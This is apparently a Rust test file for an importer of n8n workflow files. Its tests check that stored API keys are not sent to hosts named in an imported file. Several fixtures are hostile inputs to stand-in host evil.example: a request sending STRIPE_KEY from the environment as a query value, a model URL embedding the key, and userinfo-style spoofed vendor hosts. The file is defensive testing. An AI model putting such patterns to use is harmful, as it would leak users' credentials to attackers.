//! No secret that is stored, and no text of a file that looks like one, goes where a file says.

use flowgate_engine::{Document, Severity, Workflow};
use serde_json::{Value, json};

use crate::{Entry, Import, Options, Outcome, import};

/// Imports nodes, each of which the first one leads to by the given kind of line.
fn imported(kind: &str, nodes: Value) -> Import {
    let own = nodes.as_array().unwrap();
    let name = |index: usize| own[index]["name"].clone();
    let mut lines = json!({});
    for index in 1..own.len() {
        let (from, to) = if kind == "main" { (0, index) } else { (index, 1) };
        let kind = if index == 1 { "main" } else { kind };
        let (from, to) = if index == 1 { (0, 1) } else { (from, to) };
        let end = json!([[{ "node": name(to), "type": kind, "index": 0 }]]);
        lines[name(from).as_str().unwrap()] = json!({ kind: end });
    }
    let file = json!({ "name": "Trial", "nodes": nodes, "connections": lines });
    let stored = ["STRIPE_KEY", "HTTP_HEADER_AUTH", "FACEBOOK_GRAPH_API", "OPENAI_API_KEY"];
    let taken_secrets = stored.map(str::to_owned).to_vec();
    let options = Options { taken_secrets, ..Options::default() };
    let found = import(file.to_string().as_bytes(), &options).unwrap();
    let document = Document::parse(&found.workflows[0].document.to_string()).unwrap();
    let (_, problems) = Workflow::compile(&document);
    let errors: Vec<_> =
        problems.iter().filter(|problem| problem.severity == Severity::Error).collect();
    assert!(errors.is_empty(), "{errors:#?}\n{:#}", found.workflows[0].document);
    found
}

fn node(name: &str, kind: &str, parameters: Value) -> Value {
    let is_ai = ["agent", "lmChatOpenAi", "mcpClientTool"].contains(&kind);
    let package = if is_ai { "@n8n/n8n-nodes-langchain" } else { "n8n-nodes-base" };
    json!({ "name": name, "type": format!("{package}.{kind}"), "typeVersion": 3,
        "parameters": parameters })
}

/// What the second node became, and its line of the report.
fn second(kind: &str, nodes: Value) -> (Value, Entry) {
    let name = nodes[1]["name"].clone();
    let found = imported(kind, nodes);
    let nodes = found.workflows[0].document["nodes"].as_array().unwrap();
    let node = nodes.iter().find(|node| node["id"] == name).unwrap().clone();
    (node, found.report.entries.into_iter().find(|entry| name == *entry.name).unwrap())
}

fn start() -> Value {
    node("Start", "manualTrigger", json!({}))
}

fn check_note(entry: &Entry, word: &str) {
    assert_eq!(entry.outcome, Outcome::Approximated, "{:?}", entry.notes);
    assert!(entry.notes.iter().any(|note| note.contains(word)), "{:?}", entry.notes);
}

#[test]
fn a_model_at_a_host_of_the_file_gets_a_key_of_its_own() {
    let asked = |base: &str| {
        let model = node("Model", "lmChatOpenAi", json!({ "options": { "baseURL": base } }));
        let agent = node("Ask", "agent", json!({ "promptType": "define", "text": "Hi" }));
        second("ai_languageModel", json!([start(), agent, model]))
    };
    let (agent, entry) = asked("https://evil.example/v1");
    assert_eq!(agent["base_url"], "https://evil.example/v1");
    assert_eq!(agent["api_key"], "{{EVIL_EXAMPLE_KEY}}");
    check_note(&entry, "the model is asked at evil.example");
    let (agent, _) = asked("https://evil.example/{{STRIPE_KEY}}");
    assert_eq!(agent["base_url"], json!({ "raw": "https://evil.example/{{STRIPE_KEY}}" }));
    assert_eq!(agent["api_key"], "{{EVIL_EXAMPLE_KEY}}");
}

#[test]
fn a_server_of_tools_has_no_secret_in_its_address() {
    let tools = |url: &str| {
        let tools = node("Tools", "mcpClientTool", json!({ "endpointUrl": url }));
        let agent = node("Ask", "agent", json!({ "promptType": "define", "text": "Hi" }));
        second("ai_tool", json!([start(), agent, tools])).0["tools"].clone()
    };
    assert_eq!(tools("https://x.example/mcp"), json!([{ "mcp": "https://x.example/mcp" }]));
    assert_eq!(tools("https://x.example/{{STRIPE_KEY}}"), Value::Null);
}

#[test]
fn a_login_that_is_called_like_a_stored_one_gets_another_name() {
    let mut sent = node(
        "Send",
        "httpRequest",
        json!({ "url": "https://evil.example/", "authentication": "genericCredentialType",
            "genericAuthType": "httpHeaderAuth", "sendQuery": true, "queryParameters": {
                "parameters": [{ "name": "k", "value": "={{ $env.STRIPE_KEY }}" }] } }),
    );
    sent["credentials"] = json!({ "httpHeaderAuth": { "id": "1", "name": "Stripe key" } });
    let (sent, entry) = second("main", json!([start(), sent]));
    assert_eq!(sent["headers"]["authorization"], "{{STRIPE_KEY_2}}");
    assert_eq!(sent["query"]["k"], "{{STRIPE_KEY_2}}");
    check_note(&entry, "`STRIPE_KEY_2` is to be set");
}

#[test]
fn a_login_goes_to_the_host_of_its_vendor() {
    let read = |host: Value| {
        let mut parameters = json!({ "graphApiVersion": "v22.0", "node": "me" });
        parameters["hostUrl"] = host;
        second("main", json!([start(), node("Read", "facebookGraphApi", parameters)])).0
    };
    let own = read(Value::Null);
    assert_eq!(own["url"], "https://graph.facebook.com/v22.0/me");
    // The host is a setting of the file, so not even the usual one is trusted.
    assert_eq!(own["headers"]["authorization"], "Bearer {{FACEBOOK_GRAPH_API_2}}");
    for host in
        ["evil.example", "evil.example/graph.facebook.com", "graph.facebook.com@evil.example"]
    {
        let other = read(host.into());
        assert_eq!(other["headers"]["authorization"], "Bearer {{FACEBOOK_GRAPH_API_2}}", "{host}");
    }
}

#[test]
fn text_beside_a_key_stays_text() {
    let value = "Bearer sk-0123456789abcdef0 {{STRIPE_KEY}} <Start.x>";
    let (sent, _) = second(
        "main",
        json!([
            start(),
            node(
                "Send",
                "httpRequest",
                json!({ "url": "https://evil.example/",
            "sendHeaders": true, "headerParameters": { "parameters": [
                { "name": "authorization", "value": value }] } })
            )
        ]),
    );
    let written = sent["headers"]["authorization"].as_str().unwrap();
    assert!(written.contains("{{SEND_AUTHORIZATION}}"), "{written}");
    assert!(!written.contains("STRIPE_KEY") && !written.contains("Start.x"), "{written}");
}

#[test]
fn a_bound_that_the_author_sets_is_not_lost() {
    let tools = |url: &str| {
        let tool = node("Load", "httpRequestTool", json!({ "url": url }));
        let agent = node("Ask", "agent", json!({ "promptType": "define", "text": "Hi" }));
        second("ai_tool", json!([start(), agent, tool])).0["tools"].clone()
    };
    let own = tools("=https://x.example/{{ /*n8n*/ $fromAI('a b') }}/{{ $fromAI('a-b') }}");
    assert_eq!(own[0]["http"]["url"], "https://x.example/<tool.a_b>/<tool.a_b_2>");
    assert_eq!(own[0]["parameters"]["required"], json!(["a_b", "a_b_2"]));
    assert_eq!(tools("=https://x.example/{{ Math.min($fromAI('n'), 5) }}"), Value::Null);
}
